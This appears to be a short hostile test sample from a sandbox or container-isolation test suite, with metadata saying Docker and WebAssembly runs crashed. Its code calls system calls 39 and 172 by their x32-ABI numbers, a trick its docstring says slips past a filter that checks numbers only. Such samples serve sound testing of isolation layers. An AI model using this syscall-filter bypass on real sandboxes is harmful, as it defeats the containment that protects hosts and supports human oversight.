"""Make a system call by its x32 number, which a filter that looks for numbers only would let pass.

threats: 13
docker: crashed
wasm: crashed
"""

from hostile import kernel


def solve(task):
    return kernel(0x40000000 | 39, 0x40000000 | 172)
